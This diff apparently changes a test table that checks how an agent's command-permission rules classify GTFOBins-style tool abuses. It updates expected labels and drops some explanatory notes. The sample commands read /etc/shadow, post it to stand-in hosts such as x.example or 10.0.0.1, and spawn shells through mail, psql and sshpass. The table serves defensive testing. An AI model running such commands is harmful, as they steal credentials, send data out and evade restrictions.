@@ -1893,7 +1893,7 @@ GTFO = [
       ('uncatalogued: lwp-download has no catalogue entry, so Bash(lwp-download *) cove'
        "rs this write form too (low: needs the person's own rule)"),
       'lwp-download http://x.example/f /etc/x',
-      'is unknown',
+      'is network',
       None),
     G('make',
       'shell',
@@ -4067,7 +4067,7 @@ GTFO = [
       ('uncatalogued: ssh-keyscan has no catalogue entry, so Bash(ssh-keyscan *) covers'
        " this read form too (low: needs the person's own rule)"),
       'ssh-keyscan -f /etc/shadow',
-      'is unknown',
+      'is network',
       None),
     G('start-stop-daemon',
       'shell',
@@ -4535,8 +4535,7 @@ GTFO = [
       ('Bash(tftp *)',),
       'tftp',
       '',
-      ('uncatalogued: tftp has no catalogue entry, so Bash(tftp *) covers this upload f'
-       "orm too (low: needs the person's own rule)"),
+      (None),
       'tftp 10.0.0.1',
       'is unknown',
       None),
@@ -5144,7 +5143,7 @@ GTFO = [
       ('uncatalogued: whois has no catalogue entry, so Bash(whois *) covers this upload'
        " form too (low: needs the person's own rule)"),
       'whois -h 10.0.0.1 -p 4444 x',
-      'is unknown',
+      'is network',
       None),
     G('xargs',
       'shell',
@@ -5384,8 +5383,7 @@ GTFO = [
       ('Bash(aria2c *)',),
       'aria2c',
       '',
-      ('uncatalogued: aria2c has no catalogue entry, so Bash(aria2c *) covers this comm'
-       "and form too (low: needs the person's own rule)"),
+      (None),
       'aria2c --on-download-error=./x http://x.example',
       'is unknown',
       None),
@@ -5395,8 +5393,7 @@ GTFO = [
       ('Bash(aria2c *)',),
       'aria2c',
       '',
-      ('uncatalogued: aria2c has no catalogue entry, so Bash(aria2c *) covers this comm'
-       "and form too (low: needs the person's own rule)"),
+      (None),
       'aria2c --on-download-complete=./x http://x.examp',
       'is unknown',
       None),
@@ -5406,10 +5403,9 @@ GTFO = [
       ('Bash(aria2c *)',),
       'aria2c',
       '',
-      ('uncatalogued: aria2c has no catalogue entry, so Bash(aria2c *) covers this writ'
-       "e form too (low: needs the person's own rule)"),
+      (None),
       'aria2c -d /etc -o x http://x.example',
-      'is unknown',
+      'is network',
       None),
     G('aria2c',
       'read',
@@ -5420,7 +5416,7 @@ GTFO = [
       ('uncatalogued: aria2c has no catalogue entry, so Bash(aria2c *) covers this read'
        " form too (low: needs the person's own rule)"),
       'aria2c -i /etc/shadow',
-      'is unknown',
+      'is network',
       None),
     G('ab',
       'upload',
@@ -5431,7 +5427,7 @@ GTFO = [
       ('uncatalogued: ab has no catalogue entry, so Bash(ab *) covers this upload form '
        "too (low: needs the person's own rule)"),
       'ab -p /etc/shadow http://x.example/',
-      'is unknown',
+      'is network',
       None),
     G('ar',
       'read',
@@ -5763,7 +5759,7 @@ GTFO = [
       ('uncatalogued: fping has no catalogue entry, so Bash(fping *) covers this read f'
        "orm too (low: needs the person's own rule)"),
       'fping -f /etc/shadow',
-      'is unknown',
+      'is network',
       None),
     G('ghc',
       'command',
@@ -5870,7 +5866,7 @@ GTFO = [
       ('uncatalogued: lp has no catalogue entry, so Bash(lp *) covers this upload form '
        "too (low: needs the person's own rule)"),
       'lp /etc/shadow -h 10.0.0.1',
-      'is unknown',
+      'is network',
       None),
     G('mail',
       'shell',
@@ -5878,8 +5874,7 @@ GTFO = [
       ('Bash(mail *)',),
       'mail',
       '',
-      ('uncatalogued: mail has no catalogue entry, so Bash(mail *) covers this shell fo'
-       "rm too (low: needs the person's own rule)"),
+      (None),
       'mail --exec=!/bin/sh',
       'is unknown',
       None),
@@ -5903,7 +5898,7 @@ GTFO = [
       ('uncatalogued: mtr has no catalogue entry, so Bash(mtr *) covers this read form '
        "too (low: needs the person's own rule)"),
       'mtr --raw -F /etc/shadow',
-      'is unknown',
+      'is network',
       None),
     G('multitime',
       'shell',
@@ -5932,8 +5927,7 @@ GTFO = [
       ('Bash(openvpn *)',),
       'openvpn',
       '',
-      ('uncatalogued: openvpn has no catalogue entry, so Bash(openvpn *) covers this co'
-       "mmand form too (low: needs the person's own rule)"),
+      (None),
       'openvpn --dev null --script-security 2 --up /bin',
       'is unknown',
       None),
@@ -5996,8 +5990,7 @@ GTFO = [
       ('Bash(psql *)',),
       'psql',
       '',
-      ('uncatalogued: psql has no catalogue entry, so Bash(psql *) covers this command '
-       "form too (low: needs the person's own rule)"),
+      (None),
       'psql -c \\! ./evil',
       'is unknown',
       None),
@@ -6007,8 +6000,7 @@ GTFO = [
       ('Bash(psql *)',),
       'psql',
       '',
-      ('uncatalogued: psql has no catalogue entry, so Bash(psql *) covers this command '
-       "form too (low: needs the person's own rule)"),
+      (None),
       'psql -f ./x.sql',
       'is unknown',
       None),
@@ -6090,8 +6082,7 @@ GTFO = [
       ('Bash(sshpass *)',),
       'sshpass',
       '',
-      ('uncatalogued: sshpass has no catalogue entry, so Bash(sshpass *) covers this sh'
-       "ell form too (low: needs the person's own rule)"),
+      (None),
       'sshpass /bin/sh',
       'is unknown',
       None),
@@ -6146,7 +6137,7 @@ GTFO = [
       ('uncatalogued: w3m has no catalogue entry, so Bash(w3m *) covers this read form '
        "too (low: needs the person's own rule)"),
       'w3m /etc/shadow -dump',
-      'is unknown',
+      'is network',
       None),
     G('wall',
       'read',
@@ -6721,8 +6712,7 @@ GTFO = [
       ('Bash(ssh-agent *)',),
       'ssh-agent',
       '',
-      ('uncatalogued: ssh-agent has no catalogue entry, so Bash(ssh-agent *) covers thi'
-       "s shell form too (low: needs the person's own rule)"),
+      (None),
       'ssh-agent sh',
       'is unknown',
       None),
